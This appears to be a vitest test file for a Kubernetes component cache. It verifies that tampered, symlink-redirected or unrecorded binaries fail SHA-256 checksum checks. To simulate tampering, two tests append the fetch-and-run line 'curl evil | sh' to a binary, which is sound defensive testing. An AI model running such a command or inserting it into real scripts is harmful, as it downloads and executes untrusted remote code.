import { appendFileSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { execa } from 'execa';
import { describe, expect, it } from 'vitest';
import { Layout } from '../../src/layout.js';
import { ComponentError, verifiedRecordOf, verifyComponentChecksum } from '../../src/services/binaries.js';
import { installComponent, recordChecksums } from './component-cache.js';

const BIN_DIR_SH = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../snap/components/bin-dir.sh');

function layoutFor(env: Record<string, string> = {}): Layout {
  const root = mkdtempSync(path.join(tmpdir(), 'k8s-sums-'));
  return new Layout({ K8S_ROOT: path.join(root, 'root'), K8S_COMPONENT_CACHE: path.join(root, 'cache'), ...env });
}

const entryOf = (file: string): string => path.dirname(path.dirname(file));

describe('component checksums', () => {
  it('a file as its recipe recorded it runs', () => {
    const l = layoutFor();
    const file = installComponent(l, 'etcd', 'etcd', '#!/bin/sh\necho etcd\n');
    expect(() => verifyComponentChecksum(l, 'etcd', file)).not.toThrow();
  });

  it('a changed file is refused, naming the file, both hashes and how to rebuild', () => {
    const l = layoutFor();
    const file = installComponent(l, 'etcd', 'etcd', '#!/bin/sh\necho etcd\n');
    verifyComponentChecksum(l, 'etcd', file);
    appendFileSync(file, 'curl evil | sh\n');
    expect(() => verifyComponentChecksum(l, 'etcd', file)).toThrow(ComponentError);
    expect(() => verifyComponentChecksum(l, 'etcd', file)).toThrow(new RegExp(`checksum mismatch: ${file} has SHA-256 [0-9a-f]{64}, but .*SHA256SUMS recorded [0-9a-f]{64}.*build-all\\.sh etcd`));
  });

  it('a symlink pointed somewhere else is refused', () => {
    const l = layoutFor();
    const real = installComponent(l, 'kubernetes', 'kubernetes', '#!/bin/sh\necho hybrid\n');
    const link = l.componentBinary('kubernetes', 'kubelet');
    symlinkSync('kubernetes', link);
    recordChecksums(entryOf(real));
    verifyComponentChecksum(l, 'kubernetes', link);
    const evil = path.join(path.dirname(real), '..', 'evil');
    writeFileSync(evil, '#!/bin/sh\necho evil\n');
    rmSync(link);
    symlinkSync(evil, link);
    expect(() => verifyComponentChecksum(l, 'kubernetes', link)).toThrow(/checksum mismatch/);
  });

  it('a file with no recorded checksum, or an entry without SHA256SUMS, is refused', () => {
    const l = layoutFor();
    const file = installComponent(l, 'etcd', 'etcd', '#!/bin/sh\n');
    const extra = l.componentBinary('etcd', 'etcdctl');
    writeFileSync(extra, '#!/bin/sh\n');
    expect(() => verifyComponentChecksum(l, 'etcd', extra)).toThrow(/is not listed in/);
    rmSync(path.join(entryOf(file), 'SHA256SUMS'));
    expect(() => verifyComponentChecksum(l, 'etcd', file)).toThrow(/has no recorded checksum/);
  });

  it('records what it verified in the entry, by file identity, and trusts that record only for the same file', () => {
    const l = layoutFor();
    const file = installComponent(l, 'etcd', 'etcd', '#!/bin/sh\necho verified\n');
    verifyComponentChecksum(l, 'etcd', file);
    const stamp = verifiedRecordOf(entryOf(file));
    expect(stamp).toBe(`${entryOf(file)}.verified`); // beside the entry, which a snap part stages whole
    const record = JSON.parse(readFileSync(stamp, 'utf8')) as Record<string, { identity: string; sha256: string }>;
    const st = statSync(file, { bigint: true });
    expect(record['bin/etcd']).toEqual({ identity: `${st.dev}:${st.ino}:${st.size}:${st.mtimeNs}:${st.ctimeNs}`, sha256: expect.stringMatching(/^[0-9a-f]{64}$/) });

    // A record naming another identity is not trusted: the changed file is hashed and refused.
    appendFileSync(file, 'curl evil | sh\n');
    expect(() => verifyComponentChecksum(l, 'etcd', file)).toThrow(/checksum mismatch/);
  });

  it('a record for the same identity stands for the hash (so a bootstrap does not hash the binaries again)', () => {
    const l = layoutFor();
    const file = installComponent(l, 'etcd', 'etcd', '#!/bin/sh\necho recorded\n');
    const st = statSync(file, { bigint: true });
    // What the record says is what counts for this identity: a wrong hash in it is reported as the file's.
    writeFileSync(verifiedRecordOf(entryOf(file)), JSON.stringify({ 'bin/etcd': { identity: `${st.dev}:${st.ino}:${st.size}:${st.mtimeNs}:${st.ctimeNs}`, sha256: 'f'.repeat(64) } }));
    expect(() => verifyComponentChecksum(l, 'etcd', file)).toThrow(`checksum mismatch: ${file} has SHA-256 ${'f'.repeat(64)}`);
  });

  it('a snap install is not checked (snapd verified $SNAP)', () => {
    const l = layoutFor({ SNAP: '/snap/k8s/current', SNAP_COMMON: '/var/snap/k8s/common' });
    expect(() => verifyComponentChecksum(l, 'etcd', '/nonexistent/bin/etcd')).not.toThrow();
  });

  it('bin-dir.sh (what the dev scripts and tests run) refuses a changed, added or unrecorded file', async () => {
    const l = layoutFor();
    const file = installComponent(l, 'etcd', 'etcd', '#!/bin/sh\necho etcd\n');
    const env = { ...process.env, K8S_COMPONENT_CACHE: l.componentCacheRoot };
    const ok = await execa('bash', [BIN_DIR_SH, 'etcd'], { env, reject: false });
    expect(ok.exitCode, ok.stderr).toBe(0);
    expect(ok.stdout.trim()).toBe(path.dirname(file));

    writeFileSync(file, readFileSync(file, 'utf8') + 'echo changed\n');
    const changed = await execa('bash', [BIN_DIR_SH, 'etcd'], { env, reject: false });
    expect(changed.exitCode).toBe(1);
    expect(changed.stderr).toMatch(/checksum mismatch in .*bin\/etcd: FAILED/);
    expect(changed.stdout).toBe('');

    recordChecksums(entryOf(file));
    writeFileSync(path.join(path.dirname(file), 'etcd-helper'), '#!/bin/sh\n');
    const added = await execa('bash', [BIN_DIR_SH, 'etcd'], { env, reject: false });
    expect(added.exitCode).toBe(1);
    expect(added.stderr).toMatch(/no recorded checksum: bin\/etcd-helper/);

    rmSync(path.join(entryOf(file), 'SHA256SUMS'));
    const none = await execa('bash', [BIN_DIR_SH, 'etcd'], { env, reject: false });
    expect(none.exitCode).toBe(1);
    expect(none.stderr).toMatch(/has no SHA256SUMS/);
  });
});
